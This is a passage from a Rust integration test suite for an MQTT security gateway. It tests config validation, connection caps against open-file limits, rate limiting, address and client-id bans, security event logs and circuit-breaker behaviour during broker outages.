            "[mqtt]\nenabled = false\nclient_id_max_len = 5\n[slowloris]\nhandshake = \"0s\"\n",
            "mqtt.client_id_max_len",
        ),
        (
            "[mqtt]\nenabled = false\nconnect_timeout = \"0s\"\n[slowloris]\nhandshake = \"0s\"\n",
            "mqtt.connect_timeout",
        ),
        (
            "[mqtt]\nenabled = false\nmax_keep_alive = \"1500ms\"\n[slowloris]\nhandshake = \"0s\"\n",
            "mqtt.max_keep_alive",
        ),
        (
            "[mqtt.packet_rate]\nper_second = 0\n",
            "mqtt.packet_rate.per_second",
        ),
        (
            "[circuit_breaker]\nenabled = false\nhalf_open_permits = 0\n",
            "circuit_breaker.half_open_permits",
        ),
        (
            "[circuit_breaker.failure_rate]\nratio = 2.0\n",
            "circuit_breaker.failure_rate.ratio",
        ),
        ("[adaptive]\nmin_rate = 0\n", "adaptive.min_rate"),
        ("[adaptive]\nreduction = 1.5\n", "adaptive.reduction"),
        ("[adaptive]\nthreshold = \"31s\"\n", "adaptive.threshold"),
        (
            "[security]\nenabled = false\nevents = 1000000\n",
            "security.events",
        ),
        (
            "[security]\nenabled = false\nbans_save_every = \"2d\"\n",
            "security.bans_save_every",
        ),
        (
            "[auth]\nkind = \"none\"\ntimeout = \"0s\"\n",
            "auth.timeout",
        ),
        (
            "[inspect]\nenabled = false\nentropy_threshold = 9.0\n",
            "inspect.entropy_threshold",
        ),
        (
            "[inspect]\nenabled = false\n[[inspect.rules]]\nname = \"bad\"\npattern = \"(unclosed\"\n",
            "inspect.rules[0]",
        ),
    ];
    let mut wrong = Vec::new();
    for (i, (config, key)) in refused.into_iter().enumerate() {
        let (code, out) = check_config(&format!("off-out-of-range-{i}"), config);
        if code != Some(2) || !out.contains(&format!("config error: {key}")) {
            wrong.push(format!(
                "{config:?}: exit {code:?}, not naming {key}: {out}"
            ));
        }
    }
    // Relations to another section, while one of them is off: no error.
    let accepted = [
        // adaptive.threshold against mqtt.connack_timeout (5s).
        "[adaptive]\nthreshold = \"10s\"\n",
        // adaptive.enabled against limits.enabled.
        "[limits]\nenabled = false\n",
        // slowloris.handshake against mqtt.enabled.
        "[mqtt]\nenabled = false\n[slowloris]\nenabled = false\n",
        // The per-packet tiers against mqtt.enabled.
        "[mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\n\
         [limits]\nenabled = false\n[limits.publish_per_client]\n",
        // A per-packet tier's burst against mqtt.max_packet_size.
        "[mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\n\
         [limits.bytes_per_client]\nenabled = false\nburst = 100\n",
    ];
    for (i, config) in accepted.into_iter().enumerate() {
        let (code, out) = check_config(&format!("off-related-{i}"), config);
        if code != Some(0) {
            wrong.push(format!("{config:?}: exit {code:?}, expected 0: {out}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// `limits.ipv4_prefix` and `ipv6_prefix` below an IPv4 /8 or an IPv6 /32 are refused
/// only while the security detector bans addresses (it would ban a network wider than
/// `POST /bans` may, `0.0.0.0/0` for one client's rejections): the rate limits alone
/// may key that widely.
#[test]
fn prefixes_wider_than_a_ban_are_refused_only_while_the_detector_bans_addresses() {
    let (code, out) = check_config("wide-prefix", "[limits]\nipv4_prefix = 0\n");
    assert_eq!(code, Some(2), "{out}");
    assert!(
        out.contains("config error: limits.ipv4_prefix") && out.contains("at least 8"),
        "{out}"
    );
    let narrowest = "[limits]\nipv4_prefix = 8\nipv6_prefix = 32\n";
    assert_eq!(check_config("prefix-8-32", narrowest).0, Some(0));
    for allowed in [
        "[limits]\nipv4_prefix = 0\nipv6_prefix = 0\n[security]\nenabled = false\n",
        "[limits]\nipv4_prefix = 0\nipv6_prefix = 0\n[security]\nban_by = [\"client_id\"]\n",
    ] {
        let (code, out) = check_config("wide-prefix-allowed", allowed);
        assert_eq!(code, Some(0), "{allowed}: {out}");
    }
}

/// The authenticator's callout may take longer than `mqtt.connack_timeout`: the
/// CONNACK clock restarts when the callout allows the CONNECT (the check's time is not
/// the broker's), so no bound ties the two.
#[test]
fn an_auth_timeout_longer_than_the_connack_timeout_is_accepted() {
    let dir = scratch("auth-timeout");
    let file = dir.join("gateway.toml");
    std::fs::write(
        &file,
        "[mqtt]\nconnack_timeout = \"1s\"\n\
         [auth]\nkind = \"http\"\nurl = \"http://127.0.0.1:1/\"\ntimeout = \"5s\"\n",
    )
    .unwrap();
    let out = gateway_check([std::ffi::OsStr::new("--config"), file.as_os_str()]);
    let _ = std::fs::remove_dir_all(&dir);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `--check` prints the effective configuration: the shipped example file (every key)
/// gives exactly the defaults.
#[test]
fn the_shipped_example_config_is_the_defaults() {
    let dir = scratch("check");
    let example = dir.join("gateway.example.toml");
    std::fs::write(
        &example,
        include_str!("../mqtt-gateway/gateway.example.toml"),
    )
    .unwrap();
    let check = |args: &[&std::ffi::OsStr]| {
        let out = gateway_check(args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let from_file = check(&["--config".as_ref(), example.as_os_str()]);
    let defaults = check(&[]);
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(from_file, defaults);
    assert!(defaults.contains("upstream = \"embedded\""), "{defaults}");
    assert!(defaults.contains("first_byte = \"5s\""), "{defaults}");
    assert!(defaults.contains("jitter = \"50ms\""), "{defaults}");
    // What --check prints is itself a valid configuration file.
    let dir = scratch("check-again");
    let printed = dir.join("printed.toml");
    std::fs::write(&printed, &defaults).unwrap();
    let again = check(&["--config".as_ref(), printed.as_os_str()]);
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(again, defaults);
}

/// `--check` prints the effective settings: with `mqtt.enabled = false`,
/// `inspect.enabled = false` (inspection runs inside the MQTT layer, so it is off), and
/// `server.max_connections` as the open-files limit cuts it at start, `(limit - 128 -
/// held) / 3 = 24` with the embedded broker and `/ 2 = 36` with a real one (the limit
/// chosen so: [`limit_for`]), saying so on stderr. A
/// set `RUST_LOG`, which replaces `log.level` at start, is named on stderr (stdout keeps
/// `log.level`: it is a configuration file). Before, it printed the file's values.
#[test]
fn check_prints_the_effective_settings() {
    let dir = scratch("check-effective");
    let file = dir.join("gateway.toml");
    let check = |config: &str, args: &[&str], nofile: Option<&str>, rust_log: Option<&str>| {
        std::fs::write(&file, config).unwrap();
        let mut command = match nofile {
            Some(limit) => {
                let mut prlimit = Command::new(PRLIMIT);
                prlimit.arg(format!("--nofile={limit}")).arg(gateway_bin());
                prlimit
            }
            None => Command::new(gateway_bin()),
        };
        command
            .arg("--check")
            .arg("--config")
            .arg(&file)
            .args(args)
            .env_remove("RUST_LOG")
            .stdin(Stdio::null());
        if let Some(filter) = rust_log {
            command.env("RUST_LOG", filter);
        }
        let out = command.output().unwrap();
        let stdout = String::from_utf8(out.stdout).unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(out.status.success(), "{config}: {stderr}");
        let table: toml::Table = toml::from_str(&stdout).unwrap();
        (table, stderr)
    };
    let value = |t: &toml::Table, section: &str, key: &str| t[section][key].clone();

    let (on, _) = check("", &[], None, None);
    assert_eq!(value(&on, "inspect", "enabled"), toml::Value::Boolean(true));
    let mqtt_off = "[mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\n";
    let (off, _) = check(mqtt_off, &[], None, None);
    assert_eq!(
        value(&off, "inspect", "enabled"),
        toml::Value::Boolean(false)
    );

    let (_, quiet) = check("", &[], None, None);
    assert!(!quiet.contains("RUST_LOG"), "{quiet}");
    let (logged, stderr) = check("", &[], None, Some("debug,aegis_core=trace"));
    assert_eq!(value(&logged, "log", "level"), toml::Value::from("info"));
    assert!(
        stderr.contains("RUST_LOG") && stderr.contains("debug,aegis_core=trace"),
        "{stderr}"
    );

    if Path::new(PRLIMIT).exists() {
        let limit = limit_for(24, 3);
        let nofile = format!("150:{limit}");
        for (args, cap) in [(&[][..], 24), (&["--upstream", "127.0.0.1:1884"][..], 36)] {
            let (cut, stderr) = check("", args, Some(&nofile), None);
            let max = value(&cut, "server", "max_connections");
            assert_eq!(max, toml::Value::Integer(cap), "{args:?}");
            assert!(
                stderr.contains("server.max_connections")
                    && stderr.contains("10000")
                    && stderr.contains(&limit.to_string()),
                "{stderr}"
            );
        }
        let (fits, stderr) = check(
            "[server]\nmax_connections = 20\n",
            &[],
            Some(&format!("{limit}:{limit}")),
            None,
        );
        assert_eq!(
            value(&fits, "server", "max_connections"),
            toml::Value::Integer(20)
        );
        assert!(!stderr.contains("max_connections"), "{stderr}");
    } else {
        skipped(
            "check_prints_the_effective_settings (max_connections)",
            "no /usr/bin/prlimit",
        );
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// With the embedded broker, `--check` says beside `mqtt.client_id_chars` that the
/// four characters rumqttd refuses are refused whatever the class; not with another
/// upstream.
#[test]
fn check_notes_the_client_id_characters_the_embedded_broker_refuses() {
    let note = "client_id_chars = \"any\"  # with upstream \"embedded\": and none of + $ # /";
    let (code, out) = check_config("ids-embedded", "[mqtt]\nclient_id_chars = \"any\"\n");
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains(note), "{out}");
    let (code, out) = check_config(
        "ids-mosquitto",
        "[server]\nupstream = \"127.0.0.1:1884\"\n[mqtt]\nclient_id_chars = \"any\"\n",
    );
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("client_id_chars = \"any\"\n"), "{out}");
}

/// A tier's table needs only what it changes: `enabled = false` alone turns a tier
/// that is on by default off, an empty table turns one on at its defaults, and a
/// mistyped key is still refused.
#[test]
fn a_tier_table_keeps_the_tiers_defaults_for_what_it_leaves_out() {
    let (code, out) = check_config(
        "tiers",
        "[limits.per_ip]\nenabled = false\n\
         [limits.concurrent_per_ip]\nenabled = false\n\
         [limits.publish_per_client]\n\
         [limits.packets_per_client]\nburst = 7\n",
    );
    assert_eq!(code, Some(0), "{out}");
    for tier in [
        "[limits.per_ip]\nenabled = false\nrate = \"5/s\"\nburst = 10\n",
        "[limits.concurrent_per_ip]\nenabled = false\nmax = 64\n",
        "[limits.publish_per_client]\nenabled = true\nrate = \"100/s\"\nburst = 200\n",
        "[limits.packets_per_client]\nenabled = true\nrate = \"200/s\"\nburst = 7\n",
    ] {
        assert!(out.contains(tier), "{tier}\n{out}");
    }
    let (code, out) = check_config("tiers-typo", "[limits.per_ip]\nrat = \"1/s\"\n");
    assert_eq!(code, Some(2), "{out}");
    assert!(
        out.contains("limits.per_ip") && out.contains("rat"),
        "{out}"
    );
}

/// The shipped example file starts the gateway as is.
#[tokio::test]
async fn the_shipped_example_config_starts() {
    let example = include_str!("../mqtt-gateway/gateway.example.toml");
    let gw = Gateway::start("example-config", example, &[]).await;
    assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 200);
    let mut s = mqtt_session("127.0.0.1", gw.mqtt, "example").await.unwrap();
    s.write_all(&[0xE0, 0x00]).await.unwrap();
    // Bans are read-only unless security.admin = true.
    let (status, _) = http_request(gw.metrics, "POST", "/bans?key=addr&value=192.0.2.1&for=1m")
        .await
        .unwrap();
    assert_eq!(status, 403);
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
}

/// With `adaptive.drives = "per_ip"` the controller sets `limits.per_ip` (here at its
/// `max_rate` of 1/s, burst 1) for the broker's sake: the refusals of that tier are
/// logged, with severity `low`, but count toward no ban, whatever `max_rejections`.
#[tokio::test]
async fn per_ip_refusals_ban_nobody_while_the_adaptive_controller_drives_them() {
    let config = r#"
        [limits.per_ip]
        rate = "1/m"
        burst = 1
        [adaptive]
        enabled = true
        drives = "per_ip"
        min_rate = 1
        max_rate = 1
        [security]
        admin = true
        max_rejections = 1
    "#;
    let gw = Gateway::start("adaptive-per-ip", config, &[]).await;
    let session = mqtt_session("127.0.0.11", gw.mqtt, "first").await;
    assert!(session.is_some(), "the first connect was refused");
    // Three refusals over the rate (1/s, burst 1): a connect that a stalled machine
    // makes a second later gets the refilled token instead, and is not counted.
    let mut refused = 0;
    for _ in 0..20 {
        let mut over = connect_from("127.0.0.11", gw.mqtt).await;
        let _ = over.write_all(&connect_311("over")).await;
        if closed_silently(&mut over).await {
            refused += 1;
            if refused == 3 {
                break;
            }
        }
    }
    assert_eq!(refused, 3, "over the rate, not refused");
    gw.wait_metric(
        "aegis_rejections_total{layer=\"rate_limit\",reason=\"per_client\"}",
        3.0,
    )
    .await;
    gw.wait_metric(
        "aegis_security_events_total{kind=\"rejection\",layer=\"rate_limit\",severity=\"low\"}",
        3.0,
    )
    .await;
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
}

/// With `limits.max_keys` client addresses tracked, every new one shares one overflow
/// budget of `limits.per_ip`: once others drained it, a client that never connected
/// before is refused (`rate_limit` / `overflow`), logged with severity `low`, and
/// banned for none of it, whatever `max_rejections`. Before, those refusals were
/// `per_client` and got the client banned at its second.
#[tokio::test]
async fn overflow_refusals_from_others_flood_ban_nobody() {
    let config = r#"
        [limits]
        max_keys = 1
        [limits.per_ip]
        rate = "1/m"
        burst = 1
        [security]
        admin = true
        max_rejections = 1
    "#;
    let gw = Gateway::start("overflow-bans-nobody", config, &[]).await;
    // The one slot, then the overflow budget's one connection, both taken by others.
    for from in ["127.0.0.21", "127.0.0.22"] {
        assert!(
            mqtt_session(from, gw.mqtt, from).await.is_some(),
            "{from} refused"
        );
    }
    for _ in 0..3 {
        assert!(
            refused_from("127.0.0.23", gw.mqtt, &connect_311("victim")).await,
            "the victim served past the drained overflow budget"
        );
    }
    gw.wait_metric(
        "aegis_rejections_total{layer=\"rate_limit\",reason=\"overflow\"}",
        3.0,
    )
    .await;
    gw.wait_metric(
        "aegis_security_events_total{kind=\"rejection\",layer=\"rate_limit\",severity=\"low\"}",
        3.0,
    )
    .await;
    assert_eq!(
        gw.metric("aegis_rejections_total{layer=\"rate_limit\",reason=\"per_client\"}")
            .await,
        None
    );
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
}

/// The gateway binds its own ports before the embedded broker takes a free one, so the
/// kernel never gives the broker a fixed `listen` or `metrics.listen` port (inside the
/// ephemeral range it could, and the gateway then failed to bind): with either port
/// taken, the start-up fails at that bind, before any broker starts.
#[test]
fn the_gateway_binds_its_ports_before_the_embedded_broker_starts() {
    for (flag, listen) in [("server.listen", true), ("metrics.listen", false)] {
        let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = taken.local_addr().unwrap();
        let [free] = free_ports();
        let (mqtt, metrics) = if listen { (port, free) } else { (free, port) };
        let (status, stderr) = run_to_exit_on(
            &format!("bind-order-{listen}"),
            "[server]\nupstream = \"embedded\"\n",
            mqtt,
            metrics,
        );
        assert_eq!(status.code(), Some(1), "{stderr}");
        assert!(
            stderr.contains(&format!("{flag} {port}: cannot bind")),
            "{stderr}"
        );
        // The broker's start-up warning, logged once it listens, never came.
        assert!(!stderr.contains("for trying the gateway"), "{stderr}");
        drop(taken);
    }
}

/// With the embedded broker each client holds three of the process's descriptors, and
/// rumqttd retries a failed accept at once (out of descriptors it would spin a core and
/// log an error per try): the gateway keeps its connection cap within the open-files
/// limit, `(limit - 128 - held) / 3 = 24` here ([`limit_for`]: the other runtimes' own
/// descriptors and the sockets queued for them counted too), so the broker never runs out.
#[tokio::test]
async fn the_embedded_broker_is_kept_within_the_open_files_limit() {
    if !Path::new(PRLIMIT).exists() {
        skipped(
            "the_embedded_broker_is_kept_within_the_open_files_limit",
            "no /usr/bin/prlimit",
        );
        return;
    }
    let limit = limit_for(24, 3);
    let launch = Launch {
        nofile: Some((limit, limit)),
        ..Launch::default()
    };
    let gw = Gateway::start_with("embedded-fds", "", &[], launch).await;
    let log = gw.log();
    assert!(
        log.contains(&format!(
            "max_connections=24 configured=10000 open_files_limit={limit}"
        )),
        "{log}"
    );
    let mut held = Vec::new();
    for i in 0..24 {
        let from = format!("127.0.0.{}", 100 + i);
        let session = mqtt_session(&from, gw.mqtt, &format!("fd{i}")).await;
        held.push(session.unwrap_or_else(|| panic!("session {i} from {from} refused")));
    }
    // One more is over the cap: reset at accept, with descriptors to spare.
    assert!(mqtt_session("127.0.0.130", gw.mqtt, "over").await.is_none());
    gw.wait_metric("aegis_connections_total{outcome=\"over_capacity\"}", 1.0)
        .await;
    let log = gw.log();
    assert!(!log.contains("Unable to accept socket"), "{log}");
    drop(held);
}

/// With a real broker each client holds two of the process's descriptors: out of them,
/// `accept()` would fail with `EMFILE`, new clients would wait in the backlog and time
/// out, and the metrics endpoint would stop answering. The gateway raises its soft
/// open-files limit to the hard one, and keeps its connection cap within the limit,
/// `(limit - 128 - held) / 2 = 36` here ([`limit_for`]): the 37th client is reset at
/// accept, counted.
#[tokio::test]
async fn the_connection_cap_is_kept_within_the_open_files_limit() {
    if !Path::new(PRLIMIT).exists() {
        skipped(
            "the_connection_cap_is_kept_within_the_open_files_limit",
            "no /usr/bin/prlimit",
        );
        return;
    }
    let broker = Mosquitto::start().await;
    let upstream = broker.addr().to_string();
    // A soft limit under the hard one is raised to it.
    let limit = limit_for(36, 2);
    let raised = Launch {
        nofile: Some((150, limit)),
        ..Launch::default()
    };
    let gw = Gateway::start_with("nofile", "", &["--upstream", &upstream], raised).await;
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", gw.pid())).unwrap();
    let open_files = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap();
    let limit_text = limit.to_string();
    assert_eq!(
        open_files.split_whitespace().collect::<Vec<_>>()[3..5],
        [limit_text.as_str(), limit_text.as_str()],
        "{open_files}"
    );
    let log = gw.log();
    assert!(
        log.contains(&format!(
            "max_connections=36 configured=10000 open_files_limit={limit}"
        )),
        "{log}"
    );
    let mut held = Vec::new();
    for i in 0..36 {
        let from = format!("127.0.0.{}", 100 + i);
        let session = mqtt_session(&from, gw.mqtt, &format!("nf{i}")).await;
        held.push(session.unwrap_or_else(|| panic!("session {i} from {from} refused")));
    }
    assert!(mqtt_session("127.0.0.140", gw.mqtt, "over").await.is_none());
    gw.wait_metric("aegis_connections_total{outcome=\"over_capacity\"}", 1.0)
        .await;
    // The endpoint still answers: descriptors are left.
    assert_eq!(
        http_get(gw.metrics, "/healthz").await.unwrap().0,
        200,
        "the metrics endpoint answers at the cap"
    );
    drop(held);
}

/// `/readyz` names the gateway's own lack of descriptors rather than blaming the
/// upstream: with its soft open-files limit lowered (`prlimit(2)`) to leave it one
/// descriptor, the one the endpoint accepts the request on, the readiness connect fails
/// with `EMFILE`, and the answer says so. With its limit back, it is ready again.
#[tokio::test]
async fn readyz_says_when_the_gateway_is_out_of_descriptors() {
    // An upstream that takes connections (the kernel completes them; none is accepted).
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let to = upstream.local_addr().unwrap().to_string();
    let gw = Gateway::start("readyz-nofile", "", &["--upstream", &to]).await;
    let pid = gw.pid();
    // Once the connections of the start-up's `/healthz` requests are closed on the
    // gateway's side too, an idle gateway opens no descriptor: the lowest free number
    // is the one the next accept gets.
    wait_connections(pid, 0).await;
    let open = descriptors(pid).0;
    let next = (0..).find(|n| !open.contains(n)).unwrap();
    let nofile = |new: Option<(u64, u64)>| {
        let (mut soft, mut hard) = (0, 0);
        let pid = i32::try_from(pid).unwrap();
        rlimit::prlimit(
            pid,
            rlimit::Resource::NOFILE,
            new,
            Some((&mut soft, &mut hard)),
        )
        .unwrap();
        (soft, hard)
    };
    let (soft, hard) = nofile(None);
    nofile(Some((u64::from(next) + 1, hard)));
    let answer = http_get(gw.metrics, "/readyz").await;
    nofile(Some((soft, hard)));
    let (status, body) = answer.unwrap();
    assert_eq!(
        (status, body.as_str()),
        (
            503,
            "not ready: this host is out of descriptors, memory or local ports\n"
        ),
        "{}",
        gw.log()
    );
    // The failed connect's answer stands for a second; then the next one succeeds.
    let deadline = Instant::now() + WAIT;
    loop {
        let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
        if (status, body.as_str()) == (200, "ready\n") {
            break;
        }
        assert!(Instant::now() < deadline, "still {status} {body}");
        sleep(Duration::from_millis(100)).await;
    }
    drop(upstream);
}

/// Security: rejections from one address over `max_rejections` ban it, a banned address
/// is closed before any byte is read, and `/events` and `/bans` show and change it all.
#[tokio::test]
async fn rejections_ban_an_address_and_events_and_bans_are_served() {
    let config = "[security]\nadmin = true\nmax_rejections = 2\nban_by = [\"addr\"]\n";
    let gw = Gateway::start("security", config, &[]).await;
    // Three garbage connections from 127.0.0.9: the third rejection crosses 2.
    for _ in 0..3 {
        let mut s = connect_from("127.0.0.9", gw.mqtt).await;
        s.write_all(b"\xff\xfe garbage").await.unwrap();
        assert!(closed_silently(&mut s).await);
    }
    gw.wait_metric(
        "aegis_security_bans_total{key=\"addr\",cause=\"rejections\"}",
        1.0,
    )
    .await;
    let (status, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert_eq!(status, 200);
    let bans: serde_json::Value = serde_json::from_str(&bans).unwrap();
    assert_eq!(bans.as_array().unwrap().len(), 1, "{bans}");
    assert_eq!(bans[0]["key"], "addr", "{bans}");
    assert_eq!(bans[0]["value"], "127.0.0.9/32", "{bans}");
    assert_eq!(bans[0]["reason"], "rejections", "{bans}");

    // Banned: a valid CONNECT gets nothing, the connection is reset at once.
    assert!(refused_from("127.0.0.9", gw.mqtt, &connect_311("banned")).await);
    gw.wait_metric(
        "aegis_rejections_total{layer=\"security\",reason=\"banned\"}",
        1.0,
    )
    .await;
    // Another address is not affected.
    assert!(mqtt_session("127.0.0.10", gw.mqtt, "other").await.is_some());

    // The event log: the sniff rejections, the ban, the banned connection.
    let (status, events) = http_get(gw.metrics, "/events?limit=50").await.unwrap();
    assert_eq!(status, 200);
    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
    let events = events.as_array().unwrap();
    let of = |kind: &str, rule: &str| {
        events
            .iter()
            .filter(|e| e["kind"] == kind && e["rule"] == rule)
            .count()
    };
    assert_eq!(of("rejection", "unknown"), 3, "{events:?}");
    assert_eq!(of("ban", "rejections"), 1, "{events:?}");
    assert_eq!(of("rejection", "banned"), 1, "{events:?}");
    for e in events {
        assert!(
            e["client_addr"].as_str().unwrap().starts_with("127.0.0.9:"),
            "{e}"
        );
        for field in [
            "seq",
            "time",
            "layer",
            "severity",
            "client_id",
            "username",
            "details",
        ] {
            assert!(e.get(field).is_some(), "{field} missing in {e}");
        }
    }
    let (_, one) = http_get(gw.metrics, "/events?limit=1").await.unwrap();
    let one: serde_json::Value = serde_json::from_str(&one).unwrap();
    assert_eq!(one.as_array().unwrap().len(), 1);
    assert_eq!(one[0]["rule"], "banned", "newest last");
    // Each event is a log line too (target aegis::security).
    gw.wait_log("client_addr=127.0.0.9:").await;
    let log = gw.log();
    assert!(log.contains("security event"), "{log}");
    assert!(log.contains("client_addr=127.0.0.9:"), "{log}");
    assert_eq!(
        http_get(gw.metrics, "/events?limit=x").await.unwrap().0,
        400
    );

    // Lift the ban: the address connects again.
    let (status, _) = http_request(gw.metrics, "DELETE", "/bans?key=addr&value=127.0.0.9")
        .await
        .unwrap();
    assert_eq!(status, 200);
    assert!(mqtt_session("127.0.0.9", gw.mqtt, "again").await.is_some());
    assert_eq!(
        http_request(gw.metrics, "DELETE", "/bans?key=addr&value=127.0.0.9")
            .await
            .unwrap()
            .0,
        404
    );

    // Ban a client id by hand (percent-encoded in the query): its CONNECT gets CONNACK
    // 0x05 (3.1.1). Not one with a `/`: the embedded broker's gateway refuses those
    // before any ban is looked at (CONNACK 0x02).
    let (status, _) = http_request(
        gw.metrics,
        "POST",
        "/bans?key=client_id&value=evil%3A1&for=10m",
    )
    .await
    .unwrap();
    assert_eq!(status, 200);
    let mut s = connect_from("127.0.0.11", gw.mqtt).await;
    s.write_all(&connect_311("evil:1")).await.unwrap();
    assert_eq!(
        timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
        (0x20, vec![0x00, 0x05])
    );
    assert_eq!(
        http_request(gw.metrics, "POST", "/bans?key=client_id&value=x&for=soon")
            .await
            .unwrap()
            .0,
        400
    );

    // An IPv6 address stands for its /64: listed so, and lifted by what is listed or
    // by any other address in it.
    let status =
        |method, path| async move { http_request(gw.metrics, method, path).await.unwrap().0 };
    let ban = "/bans?key=addr&value=2001:db8:0:7::9&for=10m";
    assert_eq!(status("POST", ban).await, 200);
    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert!(bans.contains("\"value\":\"2001:db8:0:7::/64\""), "{bans}");
    let listed = "/bans?key=addr&value=2001:db8:0:7::%2F64";
    assert_eq!(status("DELETE", listed).await, 200);
    assert_eq!(status("DELETE", listed).await, 404);
    assert_eq!(status("POST", ban).await, 200);
    assert_eq!(
        status("DELETE", "/bans?key=addr&value=2001:db8:0:7:abcd::1").await,
        200
    );
    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    assert!(!bans.contains("2001:db8"), "{bans}");
}

/// The Grafana dashboard is valid JSON, and every series it queries is one the
/// workspace defines (by its constant), so a renamed metric breaks this test.
#[test]
fn the_grafana_dashboard_queries_only_known_series() {
    use aegis_core::metrics as core;
    use aegis_layers::{adaptive, circuit_breaker, sniff};
    let known = [
        core::CONNECTIONS_TOTAL,
        core::ACTIVE_CONNECTIONS,
        core::REJECTIONS_TOTAL,
        core::UPSTREAM_ERRORS_TOTAL,
        core::PROXY_BYTES_TOTAL,
        core::CONNECTION_DURATION_SECONDS,
        circuit_breaker::CIRCUIT_STATE,
        adaptive::ADAPTIVE_RATE,
        adaptive::ADAPTIVE_P95_SECONDS,
        sniff::SNIFF_TOTAL,
        aegis_mqtt::layer::policy::metrics::DROPPED_TOTAL,
        aegis_mqtt::security::metrics::EVENTS_TOTAL,
        aegis_mqtt::security::metrics::BANS,
        aegis_mqtt::security::metrics::BANS_TOTAL,
        aegis_mqtt::auth::metrics::AUTH_TOTAL,
        aegis_mqtt::auth::metrics::CALLOUT_SECONDS,
        aegis_mqtt::inspect::metrics::INSPECTION_TOTAL,
    ];
    let text = include_str!("../mqtt-gateway/grafana-dashboard.json");
    let dashboard: serde_json::Value = serde_json::from_str(text).unwrap();
    let panels = dashboard["panels"].as_array().unwrap();
    assert!(panels.len() >= 7, "{} panels", panels.len());
    let mut queried = 0;
    for panel in panels {
        for target in panel["targets"].as_array().unwrap() {
            let expr = target["expr"].as_str().unwrap();
            let mut rest = expr;
            while let Some(at) = rest.find("aegis_") {
                let name: String = rest[at..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                let base = name.strip_suffix("_bucket").unwrap_or(&name);
                assert!(
                    known.contains(&base),
                    "{:?} queries unknown {name}",
                    panel["title"]
                );
                queried += 1;
                rest = &rest[at + name.len()..];
            }
        }
    }
    assert!(queried >= known.len(), "{queried} queries");
}

#[tokio::test]
async fn with_the_broker_down_readyz_is_503_and_clients_get_server_unavailable() {
    let (_held, dead) = dead_port(); // bound, nothing listens there
    let config = "[circuit_breaker]\nconsecutive_failures = 2\nopen_for = \"1m\"\n";
    let gw = Gateway::start("down", config, &["--upstream", &dead.to_string()]).await;
    let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
    assert_eq!(status, 503, "{body}");

    for i in 0..3 {
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        s.write_all(&connect_311(&format!("down-{i}")))
            .await
            .unwrap();
        let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
        assert_eq!(
            answer,
            (0x20, vec![0x00, 0x03]),
            "CONNACK 3: server unavailable"
        );
        assert!(closed_silently(&mut s).await);
    }
    // Two refused connects opened the circuit; the third failed fast.
    gw.wait_metric("aegis_circuit_state{name=\"upstream\"}", 2.0)
        .await;
    gw.wait_metric(
        "aegis_rejections_total{layer=\"mqtt\",reason=\"server_unavailable\"}",
        3.0,
    )
    .await;
    let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
    assert_eq!(
        (status, body.as_str()),
        (503, "not ready: upstream circuit open\n")
    );
}

/// An outage bans nobody: with the broker down and the circuit open, the clients the
/// breaker turns away (CONNACK 3) are not counted as the clients' own rejections, even
/// with a detector that bans after two.
#[tokio::test]
async fn an_open_circuit_gets_no_client_banned() {
    let (_held, dead) = dead_port();
    let config = "[circuit_breaker]\nconsecutive_failures = 1\nopen_for = \"1m\"\n\
                  [security]\nmax_rejections = 2\n";
    let gw = Gateway::start("outage-bans", config, &["--upstream", &dead.to_string()]).await;
    for i in 0..6 {
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        s.write_all(&connect_311(&format!("outage-{i}")))
            .await
            .unwrap();
        let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
        assert_eq!(answer, (0x20, vec![0x00, 0x03]), "connect {i}");
    }
    gw.wait_metric(
        "aegis_rejections_total{layer=\"circuit_breaker\",reason=\"open\"}",
        5.0,
    )
    .await;
    let (status, body) = http_get(gw.metrics, "/bans").await.unwrap();
    assert_eq!((status, body.as_str()), (200, "[]"));
}

/// An upstream that takes the TCP connection and closes it before any CONNACK (a load
/// balancer with no healthy backend, a broker restarting): each client gets the
/// gateway's own "server unavailable" (3.1.1 CONNACK 0x03, 5.0 0x88) instead of a
/// silent EOF, counted as `aegis_rejections_total{layer="mqtt",
/// reason="upstream_closed"}` and logged as a security event of severity `low`; more of
/// them than `max_rejections` from one address ban nobody (an outage is not the
/// client's doing), and the circuit stays closed (the broker's end came before its
/// first byte, which counts for nothing).
///
/// The upstream reads the CONNECT before it closes, so that its kernel sends an end of
/// stream; closed with the CONNECT unread it would reset the connection (the next test).
#[tokio::test]
